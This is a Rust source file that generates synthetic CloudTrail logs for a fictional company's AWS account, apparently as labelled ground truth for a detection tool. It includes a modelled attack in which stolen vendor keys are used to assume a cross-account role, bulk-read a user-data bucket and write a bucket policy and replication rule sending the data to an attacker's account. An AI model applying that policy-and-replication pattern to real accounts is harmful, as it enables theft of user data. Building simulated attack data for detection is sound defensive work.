//! Acme's AWS account as CloudTrail records it: a working day of API calls
//! by its workloads, people, CI and the email vendor's cross-account role,
//! and, in the third-party compromise, what the attacker holding the
//! vendor's keys does there (the seed's cloud half: the vendor role
//! assumed from the attacker's address, the user-data bucket read in bulk,
//! its policy opened to the attacker's account and its objects replicated
//! to the attacker's bucket).
//!
//! Its draws come from a generator of its own, so the flows of a seed are
//! the same with or without it.

use std::net::IpAddr;

use serde_json::{Value, json};

use crate::hosts::*;
use crate::rng::Rng;
use crate::truth::Step;

/// Acme's AWS account.
pub const ACME_ACCOUNT: &str = "210987654321";
/// The email vendor's AWS account (its automation assumes Acme's role).
pub const MAILER_ACCOUNT: &str = "444455556666";
/// The role Acme gave the email vendor.
pub const MAILER_ROLE: &str = "arn:aws:iam::210987654321:role/partners/mailer-integration";
/// The attacker's own AWS account.
pub const ATTACKER_ACCOUNT: &str = "777788889999";
/// The bucket of user records.
pub const USER_DATA_BUCKET: &str = "acme-user-data";

const REGION: &str = "eu-west-1";
const MINUTE: i64 = 60_000;
const HOUR: i64 = 3_600_000;
const SDK_UA: &str = "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64";
const JAVA_UA: &str = "aws-sdk-java/2.25.60 Linux/6.1.0 OpenJDK_64-Bit_Server_VM/17.0.11";
const CONSOLE_UA: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15";
const CLI_UA: &str = "aws-cli/2.17.20 md/awscrt#0.20.11 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe sid/1b2c command/s3.cp";
/// Acme's office network (people sign in from it).
const OFFICE: [u8; 3] = [81, 2, 69];

/// One call as CloudTrail writes it.
struct Call<'a> {
    t: i64,
    identity: Value,
    source: String,
    ua: &'a str,
    service: &'a str,
    name: &'a str,
    params: Value,
    response: Value,
    extra: Value,
    resources: Value,
    error: Option<&'a str>,
    read_only: bool,
    vpce: bool,
}

/// CloudTrail's writer for one run.
pub(crate) struct Trail {
    rng: Rng,
    seq: u64,
    /// Records by time.
    pub records: Vec<(i64, Value)>,
}

impl Trail {
    pub fn new(seed: u64) -> Trail {
        Trail {
            rng: Rng::new(seed ^ 0x636c_6f75_6474_7261),
            seq: 0,
            records: Vec::new(),
        }
    }

    fn push(&mut self, c: Call<'_>) {
        self.seq += 1;
        let time = cordon_flow::time::format_rfc3339(c.t);
        let mut r = json!({
            "eventVersion": "1.10",
            "userIdentity": c.identity,
            "eventTime": format!("{}Z", &time[..19]),
            "eventSource": format!("{}.amazonaws.com", c.service),
            "eventName": c.name,
            "awsRegion": REGION,
            "sourceIPAddress": c.source,
            "userAgent": c.ua,
            "requestParameters": c.params,
            "responseElements": c.response,
            "requestID": format!("{:016X}", self.rng.u64()),
            "eventID": format!(
                "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
                self.rng.u64() as u32,
                self.rng.u64() as u16,
                self.rng.u64() as u16 & 0xfff,
                self.rng.u64() as u16 & 0xfff,
                self.seq
            ),
            "readOnly": c.read_only,
            "eventType": "AwsApiCall",
            "managementEvent": c.service != "s3" || !c.name.contains("Object"),
            "recipientAccountId": ACME_ACCOUNT,
            "eventCategory": if c.service == "s3" && c.name.contains("Object") { "Data" } else { "Management" },
        });
        if let Some(o) = r.as_object_mut() {
            if !c.extra.is_null() {
                o.insert("additionalEventData".into(), c.extra);
            }
            if !c.resources.is_null() {
                o.insert("resources".into(), c.resources);
            }
            if let Some(code) = c.error {
                o.insert("errorCode".into(), code.into());
                o.insert("errorMessage".into(), "Access Denied".into());
            }
            if c.vpce {
                o.insert("vpcEndpointId".into(), "vpce-0a1b2c3d4e5f60718".into());
            }
        }
        self.records.push((c.t, r));
    }

    /// A session of `role` (`arn:aws:iam::A:role/path/NAME`) named
    /// `session`.
    fn session(role: &str, session: &str) -> Value {
        let name = role.rsplit('/').next().unwrap_or(role);
        let account = role.split(':').nth(4).unwrap_or(ACME_ACCOUNT);
        json!({
            "type": "AssumedRole",
            "principalId": format!("AROA{}:{session}", name.to_ascii_uppercase().replace(['-', '_'], "")),
            "arn": format!("arn:aws:sts::{account}:assumed-role/{name}/{session}"),
            "accountId": account,
            "accessKeyId": "ASIA2EXAMPLEKEY00001",
            "sessionContext": {
                "sessionIssuer": {
                    "type": "Role",
                    "principalId": format!("AROA{}", name.len()),
                    "arn": role,
                    "accountId": account,
                    "userName": name
                },
                "attributes": {"creationDate": "2026-02-03T00:00:00Z", "mfaAuthenticated": "false"}
            }
        })
    }

    /// An object read or write on `bucket`.
    #[allow(
        clippy::too_many_arguments,
        reason = "one field per argument, all named at the call"
    )]
    fn object(
        &mut self,
        t: i64,
        identity: &Value,
        source: &str,
        ua: &str,
        name: &str,
        bucket: &str,
        key: &str,
        bytes: u64,
        vpce: bool,
    ) {
        let read = name == "GetObject";
        self.push(Call {
            t,
            identity: identity.clone(),
            source: source.to_string(),
            ua,
            service: "s3",
            name,
            params: json!({"bucketName": bucket, "Host": format!("{bucket}.s3.{REGION}.amazonaws.com"), "key": key}),
            response: Value::Null,
            extra: json!({
                "bytesTransferredIn": if read { 0 } else { bytes },
                "bytesTransferredOut": if read { bytes } else { 0 },
                "SignatureVersion": "SigV4",
                "AuthenticationMethod": "AuthHeader"
            }),
            resources: json!([
                {"type": "AWS::S3::Object", "ARN": format!("arn:aws:s3:::{bucket}/{key}")},
                {"accountId": ACME_ACCOUNT, "type": "AWS::S3::Bucket", "ARN": format!("arn:aws:s3:::{bucket}")}
            ]),
            error: None,
            read_only: read,
            vpce,
        });
    }

    /// A management call with nothing notable in its answer.
    #[allow(
        clippy::too_many_arguments,
        reason = "one field per argument, all named at the call"
    )]
    fn call(
        &mut self,
        t: i64,
        identity: &Value,
        source: &str,
        ua: &str,
        service: &str,
        name: &str,
        params: Value,
        read_only: bool,
    ) {
        self.push(Call {
            t,
            identity: identity.clone(),
            source: source.to_string(),
            ua,
            service,
            name,
            params,
            response: Value::Null,
            extra: Value::Null,
            resources: Value::Null,
            error: None,
            read_only,
            vpce: false,
        });
    }

    /// The vendor's automation assuming its role from `source`; the
    /// session's identity.
    fn assume_vendor_role(&mut self, t: i64, source: &str, ua: &str) -> Value {
        let session = format!("mailer-sync-{}", t / 1000);
        self.push(Call {
            t,
            identity: json!({
                "type": "AWSAccount",
                "principalId": "AIDA4MAILERAUTOMATION:mailer-sync",
                "accountId": MAILER_ACCOUNT
            }),
            source: source.to_string(),
            ua,
            service: "sts",
            name: "AssumeRole",
            params: json!({"roleArn": MAILER_ROLE, "roleSessionName": session, "durationSeconds": 3600}),
            response: json!({
                "credentials": {"accessKeyId": "ASIA2EXAMPLEKEY00002", "expiration": "Feb 3, 2026, 1:00:00 PM"},
                "assumedRoleUser": {"arn": format!("arn:aws:sts::{ACME_ACCOUNT}:assumed-role/mailer-integration/{session}")}
            }),
            extra: Value::Null,
            resources: json!([{"ARN": MAILER_ROLE, "accountId": ACME_ACCOUNT, "type": "AWS::IAM::Role"}]),
            error: None,
            read_only: true,
            vpce: false,
        });
        Self::session(MAILER_ROLE, &session)
    }

    /// One hour of Acme's own and its vendor's API calls from `t0`.
    pub fn hour(&mut self, t0: i64, load: f64) {
        let hod = (t0.rem_euclid(86_400_000) / HOUR) as u32;
        let mailer_api = MAILER_API.to_string();
        // The vendor's sync: every 15 minutes, templates and bounces.
        for q in 0..4 {
            let t = t0 + q * 15 * MINUTE + self.rng.range(0, 40_000) as i64;
            let s = self.assume_vendor_role(t, &mailer_api, SDK_UA);
            for i in 0..self.rng.range(1, 4) {
                let key = format!(
                    "templates/{}.html",
                    ["welcome", "reset", "digest", "receipt"][(i % 4) as usize]
                );
                let bytes = self.rng.range(4_000, 40_000);
                self.object(
                    t + 2_000 + i as i64 * 300,
                    &s,
                    &mailer_api,
                    SDK_UA,
                    "GetObject",
                    "acme-mail-templates",
                    &key,
                    bytes,
                    false,
                );
            }
            self.call(
                t + 4_000,
                &s,
                &mailer_api,
                SDK_UA,
                "sqs",
                "SendMessageBatch",
                json!({"queueUrl": format!("https://sqs.{REGION}.amazonaws.com/{ACME_ACCOUNT}/mail-bounces")}),
                false,
            );
        }
        // The API's instance profile: user records and photos, through the
        // VPC endpoint.
        for (n, ip) in API.iter().enumerate() {
            let s = Self::session(
                "arn:aws:iam::210987654321:role/acme-api",
                &format!("i-0a{n}b7c9d1e2f3a4b5"),
            );
            let src = ip.to_string();
            let calls = (self.rng.range(20, 60) as f64 * load) as u64 + 2;
            for _ in 0..calls {
                let t = t0 + self.rng.range(0, HOUR as u64 - 1) as i64;
                let user = self.rng.range(1, 2_000_000);
                if self.rng.chance(0.3) {
                    let key = format!("users/{:02}/{user}.json", user % 100);
                    let bytes = self.rng.range(1_000, 20_000);
                    self.object(
                        t,
                        &s,
                        &src,
                        JAVA_UA,
                        "GetObject",
                        USER_DATA_BUCKET,
                        &key,
                        bytes,
                        true,
                    );
                } else {
                    let name = if self.rng.chance(0.8) {
                        "GetObject"
                    } else {
                        "PutObject"
                    };
                    let key = format!("photos/{user}/{}.jpg", self.rng.range(1, 400));
                    let bytes = self.rng.log_range(30_000, 4_000_000);
                    self.object(
                        t,
                        &s,
                        &src,
                        JAVA_UA,
                        name,
                        "acme-user-photos",
                        &key,
                        bytes,
                        true,
                    );
                }
            }
            let t = t0 + self.rng.range(0, HOUR as u64 - 1) as i64;
            self.call(
                t,
                &s,
                &src,
                JAVA_UA,
                "kms",
                "Decrypt",
                json!({"encryptionAlgorithm": "SYMMETRIC_DEFAULT"}),
                true,
            );
        }
        // The notifier: its vendor API key, once an hour.
        let s = Self::session(
            "arn:aws:iam::210987654321:role/acme-notifier",
            "i-0c4d5e6f7a8b9c0d1",
        );
        let t = t0 + self.rng.range(0, 10 * MINUTE as u64) as i64;
        self.call(
            t,
            &s,
            &NOTIFIER.to_string(),
            JAVA_UA,
            "secretsmanager",
            "GetSecretValue",
            json!({"secretId": "prod/notifier/mailer-api-key"}),
            true,
        );
        // The nightly backup: the database dump to the backup bucket.
        if hod == 2 {
            let s = Self::session(
                "arn:aws:iam::210987654321:role/acme-backup",
                "i-0e5f6a7b8c9d0e1f2",
            );
            let src = BACKUP.to_string();
            let day = t0 / 86_400_000;
            for part in 0..self.rng.range(40, 90) {
                let t = t0 + 5 * MINUTE + part as i64 * 20_000;
                let key = format!("db/{day}/user-db.dump.part{part:04}");
                self.object(
                    t,
                    &s,
                    &src,
                    SDK_UA,
                    "PutObject",
                    "acme-backups",
                    &key,
                    16 * 1_048_576,
                    true,
                );
            }
        }
        // People: console sign-ins with MFA from the office, a look
        // around, on working hours.
        if (8..19).contains(&hod) {
            for person in ["alice", "bob", "chen"] {
                if !self.rng.chance(if hod == 9 { 0.8 } else { 0.15 }) {
                    continue;
                }
                let src = format!(
                    "{}.{}.{}.{}",
                    OFFICE[0],
                    OFFICE[1],
                    OFFICE[2],
                    self.rng.range(10, 60)
                );
                let t = t0 + self.rng.range(0, 50 * MINUTE as u64) as i64;
                let role = "arn:aws:iam::210987654321:role/aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_Engineer_4f1e2d3c";
                self.push(Call {
                    t,
                    identity: json!({
                        "type": "AssumedRole",
                        "principalId": format!("AROA5ENGINEER:{person}@acme.example"),
                        "arn": format!("arn:aws:sts::{ACME_ACCOUNT}:assumed-role/AWSReservedSSO_Engineer_4f1e2d3c/{person}@acme.example"),
                        "accountId": ACME_ACCOUNT,
                        "sessionContext": {
                            "sessionIssuer": {"type": "Role", "arn": role, "accountId": ACME_ACCOUNT, "userName": "AWSReservedSSO_Engineer_4f1e2d3c"},
                            "attributes": {"mfaAuthenticated": "true"}
                        }
                    }),
                    source: src.clone(),
                    ua: CONSOLE_UA,
                    service: "signin",
                    name: "ConsoleLogin",
                    params: Value::Null,
                    response: json!({"ConsoleLogin": "Success"}),
                    extra: json!({"MFAUsed": "Yes", "LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No"}),
                    resources: Value::Null,
                    error: None,
                    read_only: false,
                    vpce: false,
                });
                let s = Self::session(role, &format!("{person}@acme.example"));
                for i in 0..self.rng.range(3, 15) {
                    let (service, name) = *self
                        .rng
                        .pick(&[
                            ("ec2", "DescribeInstances"),
                            ("monitoring", "GetMetricData"),
                            ("s3", "ListBuckets"),
                            ("logs", "FilterLogEvents"),
                            ("rds", "DescribeDBInstances"),
                            ("ecs", "DescribeServices"),
                        ])
                        .unwrap_or(&("ec2", "DescribeInstances"));
                    self.call(
                        t + 20_000 + i as i64 * 45_000,
                        &s,
                        &src,
                        CONSOLE_UA,
                        service,
                        name,
                        Value::Null,
                        true,
                    );
                }
            }
        }
        // CI deploys a few times a working day.
        if (9..18).contains(&hod) && self.rng.chance(0.35) {
            let t = t0 + self.rng.range(0, 50 * MINUTE as u64) as i64;
            let src = format!(
                "140.82.{}.{}",
                self.rng.range(112, 127),
                self.rng.range(1, 254)
            );
            let s = Self::session(
                "arn:aws:iam::210987654321:role/acme-ci-deploy",
                &format!("deploy-{}", t / 1000),
            );
            self.call(
                t,
                &s,
                &src,
                SDK_UA,
                "ecr",
                "GetAuthorizationToken",
                Value::Null,
                true,
            );
            self.call(
                t + 30_000,
                &s,
                &src,
                SDK_UA,
                "ecr",
                "PutImage",
                json!({"repositoryName": "acme/api"}),
                false,
            );
            self.call(
                t + 60_000,
                &s,
                &src,
                SDK_UA,
                "ecs",
                "UpdateService",
                json!({"cluster": "prod", "service": "api"}),
                false,
            );
        }
    }

    /// What the attacker holding the vendor's keys does in Acme's account,
    /// from `at`, working from `attacker`: the steps it adds to the truth.
    pub fn attack(&mut self, at: i64, attacker: IpAddr, export_bucket: &str) -> Vec<Step> {
        let src = attacker.to_string();
        let first = self.records.len();
        // The vendor's role, assumed from the attacker's own address.
        let t = at + self.rng.range(20, 40) as i64 * MINUTE;
        let s = self.assume_vendor_role(t, &src, CLI_UA);
        let bucket_arn = format!("arn:aws:s3:::{USER_DATA_BUCKET}");
        // A look around.
        self.call(
            t + 15_000,
            &s,
            &src,
            CLI_UA,
            "s3",
            "ListBuckets",
            Value::Null,
            true,
        );
        self.call(
            t + 40_000,
            &s,
            &src,
            CLI_UA,
            "s3",
            "GetBucketLocation",
            json!({"bucketName": USER_DATA_BUCKET, "location": ""}),
            true,
        );
        self.call(
            t + 55_000,
            &s,
            &src,
            CLI_UA,
            "s3",
            "ListObjects",
            json!({"bucketName": USER_DATA_BUCKET, "prefix": "users/"}),
            true,
        );
        let access = self.records.len();
        // The user records, read in bulk.
        let t1 = t + 3 * MINUTE;
        let objects = self.rng.range(2_500, 4_500);
        let span = self.rng.range(4, 9) as i64 * MINUTE;
        for i in 0..objects {
            let tt = t1 + i as i64 * span / objects as i64;
            let user_block = i;
            let key = format!("users/{:02}/export-{user_block:06}.json.gz", i % 100);
            let bytes = self.rng.range(200_000, 900_000);
            self.object(
                tt,
                &s,
                &src,
                CLI_UA,
                "GetObject",
                USER_DATA_BUCKET,
                &key,
                bytes,
                false,
            );
        }
        let read = self.records.len();
        // The bucket opened to the attacker's account, and its objects
        // replicated to the attacker's bucket.
        let t2 = t1 + span + self.rng.range(2, 6) as i64 * MINUTE;
        let policy = json!({
            "Version": "2012-10-17",
            "Statement": [{
                "Sid": "Sync",
                "Effect": "Allow",
                "Principal": {"AWS": format!("arn:aws:iam::{ATTACKER_ACCOUNT}:root")},
                "Action": ["s3:GetObject", "s3:ListBucket"],
                "Resource": [bucket_arn.clone(), format!("{bucket_arn}/*")]
            }]
        });
        self.push(Call {
            t: t2,
            identity: s.clone(),
            source: src.clone(),
            ua: CLI_UA,
            service: "s3",
            name: "PutBucketPolicy",
            params: json!({"bucketName": USER_DATA_BUCKET, "bucketPolicy": policy, "Host": format!("{USER_DATA_BUCKET}.s3.{REGION}.amazonaws.com"), "policy": ""}),
            response: Value::Null,
            extra: Value::Null,
            resources: json!([{"accountId": ACME_ACCOUNT, "type": "AWS::S3::Bucket", "ARN": bucket_arn.clone()}]),
            error: None,
            read_only: false,
            vpce: false,
        });
        let export = export_bucket.split(".s3").next().unwrap_or(export_bucket);
        self.push(Call {
            t: t2 + 50_000,
            identity: s.clone(),
            source: src.clone(),
            ua: CLI_UA,
            service: "s3",
            name: "PutBucketReplication",
            params: json!({
                "bucketName": USER_DATA_BUCKET,
                "ReplicationConfiguration": {
                    "Role": MAILER_ROLE,
                    "Rule": {
                        "ID": "sync",
                        "Status": "Enabled",
                        "Priority": 1,
                        "Filter": {"Prefix": "users/"},
                        "Destination": {
                            "Bucket": format!("arn:aws:s3:::{export}"),
                            "Account": ATTACKER_ACCOUNT,
                            "AccessControlTranslation": {"Owner": "Destination"}
                        }
                    }
                },
                "replication": ""
            }),
            response: Value::Null,
            extra: Value::Null,
            resources: json!([{"accountId": ACME_ACCOUNT, "type": "AWS::S3::Bucket", "ARN": bucket_arn}]),
            error: None,
            read_only: false,
            vpce: false,
        });
        let end = self.records.len();
        let span_of = |from: usize, to: usize, records: &[(i64, Value)]| {
            let times = records.get(from..to).unwrap_or_default();
            (
                times.first().map_or(0, |(t, _)| *t),
                times.last().map_or(0, |(t, _)| *t),
                times.len() as u64,
            )
        };
        let step = |id: &str,
                    stage: &str,
                    description: &str,
                    kind: cordon_core::FindingKind,
                    techniques: &[&str],
                    (start, end, n): (i64, i64, u64)| Step {
            id: id.to_string(),
            stage: stage.to_string(),
            description: description.to_string(),
            kinds: vec![kind],
            techniques: techniques.iter().map(|t| t.to_string()).collect(),
            src: vec![attacker],
            dst: Vec::new(),
            dst_names: Vec::new(),
            ports: Vec::new(),
            start_ms: start,
            end_ms: end,
            flows: n,
        };
        use cordon_core::FindingKind as K;
        vec![
            step(
                "cloud-vendor-role",
                "initial-access",
                "with the email vendor's stolen keys, assume the vendor's cross-account role in Acme's AWS account from the attacker's own address",
                K::CloudAccountCompromise,
                &["T1199", "T1078.004"],
                span_of(first, access, &self.records),
            ),
            step(
                "cloud-collection",
                "collection",
                "read the user-data bucket's records in bulk with the vendor's role",
                K::CloudBulkRead,
                &["T1530"],
                span_of(access, read, &self.records),
            ),
            step(
                "cloud-transfer",
                "exfiltration",
                "open the user-data bucket to the attacker's AWS account and replicate it to the attacker's bucket",
                K::CloudDataShared,
                &["T1537"],
                span_of(read, end, &self.records),
            ),
        ]
    }
}
